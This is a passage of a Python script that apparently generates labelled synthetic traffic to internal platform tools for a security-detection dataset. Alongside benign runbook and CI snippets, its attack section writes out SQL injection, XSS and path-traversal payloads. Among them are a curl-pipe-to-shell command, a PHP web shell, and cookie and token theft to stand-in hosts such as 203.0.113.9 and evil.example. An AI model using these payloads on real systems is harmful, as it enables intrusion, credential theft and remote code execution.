    <md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST" Location="https://login.partner.example.com/saml2/sso"/>
  </md:IDPSSODescriptor>
</md:EntityDescriptor>
""" % (ent, b64(rbytes(300)))
            body, ct = multipart([("providerId", None, None, "saml"), ("file", "federationmetadata.xml", "text/xml", md)])
            B("keycloak-upload", "POST", "/admin/realms/%s/identity-provider/import-config" % pick(["platform", "partners"]), host_for("keycloak"), kc_headers(), body, ct)


# ===========================================================================
# DEV-CONTENT: code-heavy developer content (exactly 50, reported separately)
# ===========================================================================

MD_SNIPPETS = [
    """## Connecting to the read replica

```bash
kubectl -n payments port-forward svc/orders-pg-ro 5432:5432 &
PGPASSWORD="$(kubectl -n payments get secret orders-pg-ro -o jsonpath='{.data.password}' | base64 -d)" \\
  psql -h 127.0.0.1 -U reporter orders -c "SELECT id, status, created_at FROM orders WHERE created_at > now() - interval '1 hour' ORDER BY created_at DESC LIMIT 20;"
```

> Never run `UPDATE` or `DELETE` against the replica — it is read-only anyway and you will get `ERROR: cannot execute UPDATE in a read-only transaction`.
""",
    """### Why parameterised queries

Bad (string concatenation, injectable):

```java
String sql = "SELECT * FROM users WHERE email = '" + email + "'";
ResultSet rs = stmt.executeQuery(sql);   // email = "' OR '1'='1" dumps the table
```

Good:

```java
PreparedStatement ps = conn.prepareStatement("SELECT * FROM users WHERE email = ?");
ps.setString(1, email);
```
""",
    """## Legacy PHP admin (being retired)

The old `billing-admin` pod still runs PHP-FPM. The entry point looks like this:

```php
<?php
require __DIR__ . '/../vendor/autoload.php';
$pdo = new PDO(getenv('DSN'), getenv('DB_USER'), getenv('DB_PASSWORD'));
$stmt = $pdo->prepare('SELECT * FROM invoices WHERE tenant_id = :t');
$stmt->execute([':t' => $_GET['tenant'] ?? '']);
echo htmlspecialchars(json_encode($stmt->fetchAll()), ENT_QUOTES);
```

Do **not** add `eval()` or `include($_GET[...])` style routing back — see ADR-0012.
""",
    """## Debugging DNS inside the mesh

```sh
kubectl run -it --rm dnsutils --image=registry.k8s.io/e2e-test-images/jessie-dnsutils:1.3 --restart=Never -- \\
  sh -c 'nslookup cart-api.payments.svc.cluster.local; cat /etc/resolv.conf; dig +search orders'
```

If you see `;; connection timed out; no servers could be reached`, check the NetworkPolicy that allows egress to `kube-dns` on 53/UDP.
""",
    """## Content-Security-Policy

Our frontend sets a strict CSP, so inline handlers such as `<img src=x onerror="...">` or `<script>alert(1)</script>` are blocked even if a template forgets to escape.

```html
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'nonce-{{ .Nonce }}'; object-src 'none'">
<script nonce="{{ .Nonce }}" src="/static/app.js"></script>
```

Test it with `curl -sI https://shop.acme.io | grep -i content-security-policy`.
""",
    """## Rotating the Vault DB credentials

```bash
vault write -f database/rotate-root/orders-pg
vault read database/creds/orders-ro
vault lease revoke -prefix database/creds/orders-ro
```

The role uses:

```sql
CREATE ROLE "{{name}}" WITH LOGIN PASSWORD '{{password}}' VALID UNTIL '{{expiration}}';
GRANT SELECT ON ALL TABLES IN SCHEMA public TO "{{name}}";
```
""",
    """## Helm values templating gotcha

`tpl` lets values contain templates:

```yaml
# values.yaml
ingress:
  host: "{{ .Release.Name }}.{{ .Values.global.domain }}"
```

```gotemplate
{{- $host := tpl .Values.ingress.host . }}
host: {{ $host | quote }}
{{- range $k, $v := .Values.extraEnv }}
- name: {{ $k }}
  value: {{ $v | toString | quote }}
{{- end }}
```
""",
    """## Log4Shell follow-up (INC-2021-12)

All JVM services must run with:

```
JAVA_TOOL_OPTIONS=-Dlog4j2.formatMsgNoLookups=true
```

and log4j-core >= 2.17.1. To check a running pod:

```bash
kubectl exec deploy/ledger-svc -- sh -c 'unzip -p /app/app.jar BOOT-INF/lib/ 2>/dev/null | strings | grep -m1 "log4j-core-2\\."' 
find / -name 'log4j-core-*.jar' 2>/dev/null
```
""",
    """## Node-level debugging

```bash
kubectl debug node/ip-10-2-14-7.eu-west-1.compute.internal -it --image=busybox:1.36
# inside: the host filesystem is at /host
chroot /host
journalctl -u kubelet --since "10 min ago" | grep -i "evict"
cat /proc/meminfo | head -5
ls -la /var/lib/kubelet/pods/ | wc -l
```
""",
    """## Querying audit logs in Loki

```logql
{namespace="kube-system", container="kube-apiserver"} |= "\\"resource\\":\\"secrets\\"" | json | verb=~"get|list" | user_username!~"system:.*"
```

And the same in SQL for the archived copy in ClickHouse:

```sql
SELECT user_username, verb, count() FROM audit.events
WHERE resource = 'secrets' AND verb IN ('get', 'list') AND user_username NOT LIKE 'system:%'
GROUP BY 1, 2 ORDER BY 3 DESC;
```
""",
    """## Python client for the ops API

```python
import os, requests
r = requests.post(
    "http://ops-api.platform.svc.cluster.local:8080/api/v1/restart",
    headers={"Authorization": f"Bearer {open('/var/run/secrets/kubernetes.io/serviceaccount/token').read()}"},
    json={"namespace": "payments", "deployment": "cart-api"},
    timeout=10,
)
r.raise_for_status()
print(r.json())
```
""",
    """## Spring Boot actuator exposure

Only `health,info,prometheus` are exposed:

```properties
management.endpoints.web.exposure.include=health,info,prometheus
management.endpoint.env.enabled=false
spring.datasource.url=jdbc:postgresql://${DB_HOST:localhost}:5432/ledger
logging.pattern.console=%d{ISO8601} %-5level [%X{traceId}] %logger{36} - %msg%n
```

`/actuator/env` and `/actuator/heapdump` must never be reachable from the ingress.
""",
]


def qeta_headers():
    return bs_headers()


def gen_dev_content():
    # --- Backstage Q&A / ADR posts (10)
    for i in range(10):
        host = host_for("backstage")
        content = pick(MD_SNIPPETS) if i >= len(MD_SNIPPETS) else MD_SNIPPETS[i]
        if i % 2 == 0:
            body = dumps({"title": pick(["How do I connect to the orders read replica?", "Why are we forced to use PreparedStatement?", "PHP billing-admin: safe to keep?", "DNS timeouts in the mesh",
                                         "CSP blocks my inline script", "Rotating Vault DB creds", "Helm tpl and nested templates", "Is log4j still an issue?", "How to debug a node", "Audit queries for secrets access"]),
                          "content": content, "tags": R.sample(["kubernetes", "postgres", "vault", "security", "java", "php", "helm", "loki"], 2), "entities": ["component:default/" + pick(APPS)]})
            D("backstage-qeta", "POST", "/api/qeta/questions", host, qeta_headers(), body, "application/json")
        else:
            values = {"title": "ADR-%04d: %s" % (R.randint(10, 99), pick(["Use parameterised SQL everywhere", "Retire PHP billing admin", "Mandatory CSP", "Vault dynamic DB credentials"])),
                      "status": "accepted", "context": content, "decision": "We will follow the snippets above.", "owner": "group:default/" + pick(TEAMS), "repoUrl": "github.com?owner=acme&repo=" + pick(APPS)}
            D("backstage-adr", "POST", "/api/scaffolder/v2/tasks", host, qeta_headers(), dumps({"templateRef": "template:default/create-adr", "values": values, "secrets": {}}), "application/json")
    # --- Grafana text panels with code (10)
    for i in range(10):
        content = MD_SNIPPETS[(i + 3) % len(MD_SNIPPETS)]
        mode = "markdown"
        if i % 4 == 3:
            mode = "html"
            content = "<h3>Quick commands</h3>\n<pre><code>kubectl -n %s get pods -o wide | grep -v Running\nkubectl -n %s logs deploy/%s --since=10m | grep -E 'ERROR|Exception'\n</code></pre>\n<p>SQL to find stuck jobs:</p>\n<pre><code>SELECT id, state, updated_at FROM jobs WHERE state = 'running' AND updated_at &lt; now() - interval '15 minutes';</code></pre>" % (pick(NAMESPACES), pick(NAMESPACES), pick(APPS))
        body = dumps({"dashboard": grafana_dashboard(text_panel=(mode, content)), "folderUid": rstr(14), "message": "add runbook panel", "overwrite": True})
        D("grafana-text-panel", "POST", "/api/dashboards/db", host_for("grafana"), grafana_headers(), body, "application/json")
    # --- runbooks in annotations / alert rules (8)
    for i in range(8):
        app = pick(APPS)
        ns = pick(NAMESPACES)
        runbook = pick([
            "Runbook: 1) `kubectl -n %s rollout undo deploy/%s` 2) check `SELECT count(*) FROM outbox WHERE sent_at IS NULL;` 3) if > 10k run `kubectl -n %s scale deploy/outbox-relay --replicas=4`" % (ns, app, ns),
            "Mitigation applied: `iptables -I INPUT -s 203.0.113.0/24 -j DROP` on ingress nodes (temporary), WAF rule added for `/api/v1/export?format=csv`",
            "Hotfix: ran `psql -c \"UPDATE feature_flags SET enabled = false WHERE name = 'newPricing';\"` on orders-pg primary",
            "Cause: init container `sh -c 'until nc -z redis-master 6379; do sleep 1; done'` never finished because NetworkPolicy blocked 6379",
            "Java heap dump taken: `jcmd 1 GC.heap_dump /tmp/heap.hprof && kubectl cp %s/%s-0:/tmp/heap.hprof ./heap.hprof`" % (ns, app),
            "Rolled PHP-FPM: `kill -USR2 $(cat /run/php-fpm.pid)`; opcache reset via `php -r 'opcache_reset();'`",
        ])
        if i % 2 == 0:
            body = dumps({"dashboardUID": rstr(9), "panelId": R.randint(1, 20), "time": ts_ms(), "tags": ["incident", app, "runbook"], "text": runbook})
            D("runbook-annotation", "POST", "/api/annotations", host_for("grafana"), grafana_headers(), body, "application/json")
        else:
            rule = {"title": "%s outbox backlog" % app, "ruleGroup": "runbooks", "folderUID": rstr(14), "condition": "B", "for": "10m",
                    "data": [{"refId": "A", "datasourceUid": "pg-ro", "model": {"rawSql": "SELECT now() AS time, count(*) AS value FROM outbox WHERE sent_at IS NULL", "format": "time_series", "refId": "A"}},
                             {"refId": "B", "datasourceUid": "__expr__", "model": {"type": "threshold", "expression": "A", "conditions": [{"evaluator": {"type": "gt", "params": [10000]}}], "refId": "B"}}],
                    "annotations": {"summary": "Outbox backlog {{ $values.A.Value }}", "runbook": runbook,
                                    "description": "```\nkubectl -n %s exec deploy/%s -- sh -c 'curl -s localhost:8081/actuator/health | jq .components.db'\n```" % (ns, app)}}
            D("runbook-alert-rule", "POST", "/api/v1/provisioning/alert-rules", host_for("grafana"), grafana_headers(), dumps(rule), "application/json")
    # --- Argo workflow templates with scripts (10)
    scripts = [
        ("python:3.12-slim", ["python"], "import psycopg2, os\nconn = psycopg2.connect(os.environ['DATABASE_URL'])\ncur = conn.cursor()\ncur.execute(\"\"\"\n  DELETE FROM sessions WHERE expires_at < now() - interval '7 days'\n  RETURNING id\n\"\"\")\nprint(f'deleted {cur.rowcount} sessions')\nconn.commit()\n"),
        ("bitnami/kubectl:1.29", ["bash"], "set -euo pipefail\nfor ns in $(kubectl get ns -l team={{inputs.parameters.team}} -o jsonpath='{.items[*].metadata.name}'); do\n  kubectl -n \"$ns\" delete pod --field-selector=status.phase==Failed --ignore-not-found\n  kubectl -n \"$ns\" get events --sort-by=.lastTimestamp | tail -n 5\ndone\n"),
        ("alpine:3.19", ["sh"], "apk add --no-cache curl jq >/dev/null\nTOKEN=$(cat /var/run/secrets/kubernetes.io/serviceaccount/token)\ncurl -sf -H \"Authorization: Bearer $TOKEN\" --cacert /var/run/secrets/kubernetes.io/serviceaccount/ca.crt \\\n  https://kubernetes.default.svc/apis/apps/v1/namespaces/{{inputs.parameters.ns}}/deployments | jq -r '.items[] | select(.status.availableReplicas < .spec.replicas) | .metadata.name'\n"),
        ("mysql:8.3", ["bash"], "mysql -h mysql-primary.data.svc -u \"$MYSQL_USER\" -p\"$MYSQL_PASSWORD\" shop <<'SQL'\nSELECT table_name, ROUND((data_length + index_length) / 1024 / 1024) AS size_mb\nFROM information_schema.tables WHERE table_schema = 'shop' ORDER BY size_mb DESC LIMIT 10;\nOPTIMIZE TABLE order_items;\nSQL\n"),
        ("eclipse-temurin:21-jdk", ["bash"], "cat > /tmp/Check.java <<'EOF'\npublic class Check {\n  public static void main(String[] a) throws Exception {\n    Process p = new ProcessBuilder(\"sh\", \"-c\", \"df -h /data\").inheritIO().start();\n    System.exit(p.waitFor());\n  }\n}\nEOF\njava /tmp/Check.java\n"),
        ("php:8.3-cli", ["php"], "<?php\n$pdo = new PDO(getenv('DSN'), getenv('DB_USER'), getenv('DB_PASSWORD'));\n$n = $pdo->exec(\"UPDATE invoices SET status = 'overdue' WHERE due_date < CURRENT_DATE AND status = 'open'\");\nfwrite(STDERR, \"marked $n invoices overdue\\n\");\n"),
        ("hashicorp/vault:1.15", ["sh"], "export VAULT_ADDR=http://vault-active.vault.svc.cluster.local:8200\nvault write auth/kubernetes/login role=housekeeping jwt=@/var/run/secrets/kubernetes.io/serviceaccount/token -format=json | jq -r .auth.client_token > /tmp/t\nVAULT_TOKEN=$(cat /tmp/t) vault lease revoke -prefix database/creds/{{inputs.parameters.role}}\n"),
        ("node:20-alpine", ["node"], "const { execSync } = require('child_process');\nconst out = execSync('git ls-remote --tags https://github.com/acme/cart-api.git').toString();\nconst tags = out.split('\\n').filter(Boolean).map(l => l.split('refs/tags/')[1]);\nconsole.log(JSON.stringify({ latest: tags.sort().pop() }));\n"),
        ("redis:7.2", ["sh"], "redis-cli -h redis-master.{{inputs.parameters.ns}}.svc -a \"$REDIS_PASSWORD\" --scan --pattern 'session:*' | head -n 1000 | xargs -r redis-cli -h redis-master.{{inputs.parameters.ns}}.svc -a \"$REDIS_PASSWORD\" DEL\n"),
        ("python:3.12-slim", ["python"], "import subprocess, shlex, sys\nns = \"{{inputs.parameters.ns}}\"\ncmd = f\"kubectl -n {shlex.quote(ns)} get pods -o name\"\nfor pod in subprocess.check_output(shlex.split(cmd), text=True).split():\n    print(pod)\n# NOTE: never use shell=True with user input: subprocess.run(f'rm -rf /tmp/{user}', shell=True) is injectable\n"),
    ]
    for i in range(10):
        img, cmd, src = scripts[i]
        ns = pick(["argo", "data-eng", "ops"])
        tpl = {"template": {"metadata": {"name": "housekeeping-" + rstr(5, LOWER_ALNUM), "namespace": ns},
                            "spec": {"entrypoint": "main", "arguments": {"parameters": [{"name": "team", "value": pick(TEAMS)}, {"name": "ns", "value": pick(NAMESPACES)}, {"name": "role", "value": pick(APPS) + "-ro"}]},
                                     "templates": [{"name": "main", "inputs": {"parameters": [{"name": "team", "value": "{{workflow.parameters.team}}"}, {"name": "ns", "value": "{{workflow.parameters.ns}}"}, {"name": "role", "value": "{{workflow.parameters.role}}"}]},
                                                    "script": {"image": img, "command": cmd, "source": src, "envFrom": [{"secretRef": {"name": "housekeeping"}}]}}]}}}
        D("argo-script", "POST", "/api/v1/workflow-templates/" + ns, host_for("workflows"), wf_headers(), dumps(tpl), "application/json")
    # --- Tekton tasks with scripts (6)
    tekton_scripts = [
        "#!/usr/bin/env bash\nset -euo pipefail\ngo test ./... -race -coverprofile=/workspace/coverage.out\ngo tool cover -func=/workspace/coverage.out | tail -n1\n",
        "#!/bin/sh\ntrivy image --exit-code 1 --severity HIGH,CRITICAL --ignore-unfixed \"$(params.image)\" | tee /workspace/trivy.txt\n",
        "#!/usr/bin/env python3\nimport json, urllib.request\nreq = urllib.request.Request('http://grafana.monitoring.svc.cluster.local:3000/api/annotations', data=json.dumps({'text': 'deployed $(params.app)', 'tags': ['deploy']}).encode(), headers={'Authorization': 'Bearer ' + open('/var/run/secrets/grafana/token').read().strip(), 'Content-Type': 'application/json'})\nprint(urllib.request.urlopen(req).status)\n",
        "#!/bin/bash\n./mvnw -B -q verify -Dspring.profiles.active=test -Dspring.datasource.url='jdbc:h2:mem:test;MODE=PostgreSQL;INIT=RUNSCRIPT FROM '\"'\"'classpath:schema.sql'\"'\"''\n",
        "#!/bin/sh\nset -e\ncomposer install --no-dev --prefer-dist\nphp vendor/bin/phpunit --filter 'InvoiceTest::test_sql_is_parameterised'\nphp -l src/*.php\n",
        "#!/bin/sh\nhelm template $(params.release) ./chart -f ./chart/values-$(params.env).yaml --set image.tag=$(params.tag) | kubeconform -strict -summary -\n",
    ]
    for i in range(6):
        host, pfx, hdrs = kube_client()
        task = {"apiVersion": "tekton.dev/v1", "kind": "Task", "metadata": {"name": pick(["unit-test", "image-scan", "grafana-annotate", "maven-verify", "php-test", "helm-lint"]) + "-" + rstr(3, LOWER_ALNUM), "namespace": "ci"},
                "spec": {"params": [{"name": "image", "type": "string"}, {"name": "app", "type": "string", "default": pick(APPS)}, {"name": "env", "default": "prod"}, {"name": "tag"}, {"name": "release", "default": "app"}],
                         "workspaces": [{"name": "source"}], "steps": [{"name": "run", "image": pick(["golang:1.22", "aquasec/trivy:0.50.1", "python:3.12-slim", "maven:3.9-eclipse-temurin-21", "composer:2", "alpine/helm:3.14.4"]),
                                                                        "workingDir": "$(workspaces.source.path)", "script": tekton_scripts[i]}]}}
        D("tekton-task", "POST", pfx + "/apis/tekton.dev/v1/namespaces/ci/tasks", host, hdrs, dumps(task, "compact"), "application/json")
    # --- ConfigMaps with application code (6)
    cms = [
        {"config.php": "<?php\nreturn [\n    'db' => [\n        'dsn' => getenv('DSN') ?: 'mysql:host=mysql-primary.data.svc;dbname=billing;charset=utf8mb4',\n        'user' => getenv('DB_USER'),\n    ],\n    'upload_dir' => '/var/www/uploads',\n    'allowed_ext' => ['pdf', 'png', 'jpg'],\n];\n"},
        {"schema.sql": INIT_SQL + "\nCREATE TABLE IF NOT EXISTS audit (id bigserial PRIMARY KEY, actor text NOT NULL, action text NOT NULL, at timestamptz DEFAULT now());\nCREATE INDEX CONCURRENTLY IF NOT EXISTS audit_at ON audit (at DESC);\n"},
        {"log4j2.xml": "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<Configuration status=\"WARN\">\n  <Appenders>\n    <Console name=\"json\" target=\"SYSTEM_OUT\">\n      <JsonTemplateLayout eventTemplateUri=\"classpath:EcsLayout.json\"/>\n    </Console>\n  </Appenders>\n  <Loggers>\n    <Logger name=\"org.hibernate.SQL\" level=\"debug\"/>\n    <Root level=\"info\"><AppenderRef ref=\"json\"/></Root>\n  </Loggers>\n</Configuration>\n"},
        {"healthcheck.sh": "#!/bin/sh\n# used by livenessProbe.exec\nset -e\nwget -q -O- http://127.0.0.1:8080/healthz | grep -q '\"status\":\"UP\"'\ntest \"$(cat /proc/1/status | awk '/^State/ {print $2}')\" != \"Z\"\n", "entrypoint.sh": ENTRYPOINT_SH},
        {"filter.lua": "function envoy_on_request(handle)\n  local path = handle:headers():get(\":path\")\n  if string.find(path, \"/admin\", 1, true) == 1 then\n    handle:respond({[\":status\"] = \"403\"}, \"forbidden\")\n  end\nend\n", "notes.md": "Blocks `/admin*` at the sidecar; see `kubectl -n web get envoyfilter`."},
        {"app.js": "const express = require('express');\nconst { Pool } = require('pg');\nconst pool = new Pool({ connectionString: process.env.DATABASE_URL });\nconst app = express();\napp.get('/api/orders/:id', async (req, res) => {\n  const { rows } = await pool.query('SELECT * FROM orders WHERE id = $1', [req.params.id]);\n  res.json(rows[0] ?? null);\n});\napp.listen(8080);\n"},
    ]
    for i in range(6):
        host, pfx, hdrs = kube_client()
        ns = pick(NAMESPACES)
        cm = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": pick(APPS) + "-code", "namespace": ns}, "data": cms[i]}
        D("configmap-code", "POST", pfx + "/api/v1/namespaces/%s/configmaps" % ns, host, hdrs, dumps(cm, "compact"), "application/json")


# ===========================================================================
# ATTACKS
# ===========================================================================

def attacker_browser(extra=()):
    h = browser_headers(cookie=pick([None, "grafana_session=" + rhex(32), "argocd.token=" + jwt({"sub": "viewer"}, alg="HS256")]), extra=extra)
    if chance(0.5):
        h.append(("X-Forwarded-For", ext_ip()))
    return h


def attacker_api(ua=None, auth=True):
    ua = ua or pick(["curl/8.7.1", "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"])
    h = [("User-Agent", ua), ("Accept", "*/*")]
    if auth:
        h.append(("Authorization", pick(["Bearer " + grafana_sa_token(), bearer(oidc_token()), "Bearer " + jwt({"sub": "viewer"}, alg="HS256")])))
    if chance(0.4):
        h.append(("X-Forwarded-For", ext_ip()))
    return h


# --------------------------------------------------------------------------- sqli

def gen_sqli():
    var_payloads = [
        "web01' UNION SELECT user,authentication_string FROM mysql.user-- -",
        "' OR '1'='1",
        "x'/**/UnIoN/**/SeLeCt/**/1,@@version#",
        "1) AND SLEEP(5)-- ",
        "db-01'; DROP TABLE hosts;--",
        "' AND extractvalue(1,concat(0x7e,(SELECT database())))-- ",
        "1' AND 1=CONVERT(int,(SELECT @@version))--",
        "web01'||(SELECT CASE WHEN (1=1) THEN pg_sleep(10) ELSE pg_sleep(0) END)||'",
        "') OR 1=1 LIMIT 1 OFFSET 0 --",
        "%' AND 0 UNION ALL SELECT table_name,NULL FROM information_schema.tables WHERE '%'='",
    ]
    for p in var_payloads:
        params = [("orgId", "1"), ("var-env", "prod"), ("var-host", p), ("from", "now-6h"), ("to", "now")]
        # attackers send variable values through the dashboard URL (shared links)
        A("sqli", "grafana-dashboard-var", "GET", "/d/%s/mysql-overview?%s" % (rstr(9), qs(params)), host_for("grafana"), attacker_browser())
    raw_sql = [
        "SELECT $__timeGroupAlias(ts,'5m'), count(*) FROM orders WHERE host = 'web01' UNION ALL SELECT now(), usename || ':' || passwd FROM pg_shadow--' GROUP BY 1",
        "SELECT hostname FROM hosts WHERE env = 'prod'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.50/x.sh | sh';--'",
        "SELECT now() AS time, pg_read_file('/etc/passwd', 0, 2000) AS value",
        "SELECT id FROM hosts WHERE name = ''; EXEC master..xp_cmdshell 'whoami';--'",
        "SELECT LOAD_FILE('/var/run/secrets/kubernetes.io/serviceaccount/token') AS metric, 1 AS value",
        "SELECT '<?php system($_GET[c]); ?>' INTO OUTFILE '/var/www/html/s.php'",
        "SELECT UNIX_TIMESTAMP(ts) AS time_sec, value FROM metrics WHERE host = '' OR 1=1 AND benchmark(50000000,md5(1))-- '",
        "SELECT name FROM sys.tables WHERE name = 'x'; WAITFOR DELAY '0:0:10'--",
        "select/**/cast(version()/**/as/**/int)",
        "SELECT $__time(ts), v FROM m WHERE $__timeFilter(ts) AND host IN ('a') UNION SELECT 1, (SELECT string_agg(rolname||':'||rolpassword, ',') FROM pg_authid)",
    ]
    for s in raw_sql:
        q = {"refId": "A", "datasource": {"type": pick(["grafana-postgresql-datasource", "mysql", "mssql"]), "uid": rstr(9)}, "rawSql": s, "format": "table", "rawQuery": True}
        body = dumps({"queries": [q], "from": str(ts_ms()), "to": str(ts_ms() + 3600000)}, "compact")
        A("sqli", "grafana-dsquery", "POST", "/api/ds/query", host_for("grafana"), attacker_browser(extra=[("X-Grafana-Org-Id", "1")]), body, "application/json")
    search_payloads = [
        ("backstage-search", "/api/search/query?" + qs([("term", "x' UNION SELECT entity_id, final_entity FROM final_entities--")])),
        ("backstage-search", "/api/search/query?term=1%27%20AND%201%3D1%20AND%20%27a%27%3D%27a"),
        ("backstage-search", "/api/search/query?term=%22%20OR%20%22%22%3D%22&types%5B0%5D=software-catalog"),
        ("backstage-catalog", "/api/catalog/entities/by-query?" + qs([("filter", "kind=component,metadata.name=x') OR 1=1--"), ("limit", "20")])),
        ("harbor-search", "/api/v2.0/projects?" + qs([("q", "name=~x' or sleep(5)#"), ("page_size", "15")])),
        ("harbor-search", "/api/v2.0/projects/library/repositories?" + qs([("sort", "name;select pg_sleep(5)"), ("page", "1")])),
        ("argo-archived", "/api/v1/archived-workflows?" + qs([("listOptions.fieldSelector", "metadata.namespace=argo'||pg_sleep(5)--"), ("namePrefix", "etl")])),
        ("grafana-search", "/api/search?" + qs([("query", "') OR 1=1 UNION SELECT login,password,salt,4,5 FROM user--"), ("type", "dash-db")])),
        ("grafana-annotations", "/api/annotations?" + qs([("tags", "deploy' AND (SELECT 1 FROM (SELECT(SLEEP(7)))a)-- x"), ("limit", "100")])),
        ("keycloak-users", "/admin/realms/platform/users?" + qs([("search", "a' or 'x'='x"), ("max", "20")])),
        ("opencost", "/allocation/compute?window=7d&aggregate=namespace&filter=namespace%3A%22payments%22%29%20UNION%20SELECT%20password%20FROM%20users--"),
        ("rancher-api", "/v3/projects?name=default%27%20AnD%201%3D0%20UnIoN%20aLl%20sElEcT%201%2C2%2C3--+-"),
    ]
    for sk, uri in search_payloads:
        tool = {"backstage-search": "backstage", "backstage-catalog": "backstage", "harbor-search": "harbor", "argo-archived": "workflows", "grafana-search": "grafana",
                "grafana-annotations": "grafana", "keycloak-users": "keycloak", "opencost": "opencost", "rancher-api": "rancher"}[sk]
        A("sqli", sk, "GET", uri, host_for(tool), attacker_api())


# --------------------------------------------------------------------------- xss

def gen_xss():
    xs = [
        "<script>fetch('https://203.0.113.9/c?'+document.cookie)</script>",
        "<img src=x onerror=alert(document.domain)>",
        "<svg/onload=alert`1`>",
        "\"><ScRiPt>alert(String.fromCharCode(88,83,83))</sCrIpT>",
        "<iframe srcdoc=\"&lt;script&gt;parent.alert(1)&lt;/script&gt;\"></iframe>",
        "<details open ontoggle=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
        "<a href=\"jav&#x09;ascript:alert(1)\">runbook</a>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<body onpageshow=\"fetch('//evil.example/'+localStorage.getItem('grafana.token'))\">",
        "{{constructor.constructor('alert(document.cookie)')()}}",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
    ]
    # Grafana dashboard title / panel titles / text panels
    for i, p in enumerate(xs[:6]):
        dash = grafana_dashboard(title=p if i % 2 == 0 else None, text_panel=("html", "<p>status</p>" + p) if i % 2 == 1 else None)
        A("xss", "grafana-dashboard", "POST", "/api/dashboards/db", host_for("grafana"), attacker_browser(), dumps({"dashboard": dash, "overwrite": True}), "application/json")
    for p in xs[6:10]:
        body = dumps({"dashboardUID": rstr(9), "panelId": 2, "time": ts_ms(), "tags": ["deploy"], "text": "Deployed cart-api " + p})
        A("xss", "grafana-annotation", "POST", "/api/annotations", host_for("grafana"), attacker_browser(), body, "application/json")
    # Angular template injection in panel title (legacy angular panels)
    dash = grafana_dashboard()
    dash["panels"][0]["title"] = xs[10]
    A("xss", "grafana-panel", "POST", "/api/dashboards/db", host_for("grafana"), attacker_browser(), dumps({"dashboard": dash, "overwrite": False}), "application/json")
    # Backstage catalog description and links
    for p in [xs[0], xs[7], xs[11]]:
        e = entity()
        e["metadata"]["description"] = "Cart service. " + p
        A("xss", "backstage-entity", "POST", "/api/catalog/validate-entity", host_for("backstage"), attacker_browser(), dumps({"entity": e, "location": "url:https://github.com/acme/x/blob/main/catalog-info.yaml"}), "application/json")
    e = entity()
    e["metadata"]["links"] = [{"url": "javascript:fetch('//203.0.113.9/'+document.cookie)", "title": "Docs"}]
    A("xss", "backstage-entity", "POST", "/api/catalog/validate-entity", host_for("backstage"), attacker_browser(), dumps({"entity": e}), "application/json")
    # Keycloak client rootUrl / user attributes
    body = dumps({"clientId": "docs", "rootUrl": "javascript:alert(document.cookie)//", "redirectUris": ["*"], "baseUrl": "javascript:alert(1)"})
    A("xss", "keycloak-client", "POST", "/admin/realms/platform/clients", host_for("keycloak"), attacker_browser(), body, "application/json")
    body = dumps({"firstName": "\"><svg/onload=alert(1)>", "lastName": "Doe", "email": "jdoe@acme.io"})
    A("xss", "keycloak-account", "POST", "/realms/platform/account/", host_for("keycloak"), attacker_browser(), body, "application/json")
    # Argo CD external link annotation
    app = argo_app()
    app["metadata"]["annotations"]["link.argocd.argoproj.io/external-link"] = "javascript:document.location='https://evil.example/?c='+document.cookie"
    A("xss", "argocd-app", "POST", "/api/v1/applications", host_for("argocd"), attacker_browser(), dumps(app), "application/json")
    # Alertmanager silence comment, Harbor webhook description
    body = dumps({"matchers": [{"name": "alertname", "value": "Watchdog", "isRegex": False}], "startsAt": iso_ts(), "endsAt": iso_ts(3600), "createdBy": "x", "comment": "<iframe src=javascript:alert(1)></iframe>"})
    A("xss", "alertmanager-silence", "POST", "/api/v2/silences", host_for("alertmanager"), attacker_browser(), body, "application/json")
    body = dumps({"name": "notify", "description": "<img src=1 oNeRrOr=prompt(1)>", "enabled": True, "event_types": ["PUSH_ARTIFACT"], "targets": [{"type": "http", "address": "https://hooks.acme.io/x"}]})
    A("xss", "harbor-webhook", "POST", "/api/v2.0/projects/library/webhook/policies", host_for("harbor"), attacker_browser(), body, "application/json")
    # reflected: query params
    refl = [
        ("jaeger", "/search?service=%3Cscript%3Ealert(1)%3C%2Fscript%3E&limit=20"),
        ("kiali", "/kiali/console/namespaces/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E/applications"),
        ("grafana", "/login?redirect=javascript%3Aalert(document.domain)%2F%2F"),
        ("grafana", "/dashboards?query=%3Csvg%20onload%3Dalert(1)%3E"),
        ("argocd", "/applications?search=%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
        ("workflows", "/workflows/argo?label=%27%22%3E%3Cbody%20onload%3Dalert(1)%3E"),
        ("backstage", "/catalog?filters%5Bkind%5D=component&filters%5Buser%5D=%3Cscript%20src%3D%2F%2Fevil.example%2Fx.js%3E%3C%2Fscript%3E"),
        ("harbor", "/harbor/projects?name=%26%23x3C%3Bscript%26%23x3E%3Balert(1)%26%23x3C%3B%2Fscript%26%23x3E%3B"),
        ("grafana", "/d/abc/slo?orgId=1&var-ns=%22-alert(1)-%22"),
    ]
    for tool, uri in refl:
        A("xss", tool + "-reflected", "GET", uri, host_for(tool), attacker_browser())


# --------------------------------------------------------------------------- lfi

def gen_lfi():
    comp = pick(APPS)
    paths = [
        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/../../../../../../etc/passwd" % comp),
        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/%%2e%%2e/%%2e%%2e/%%2e%%2e/%%2e%%2e/app-config.production.yaml" % comp),
        ("backstage", "techdocs", "/api/techdocs/static/docs/default/component/%s/..%%2f..%%2f..%%2f..%%2f..%%2fproc%%2fself%%2fenviron" % comp),
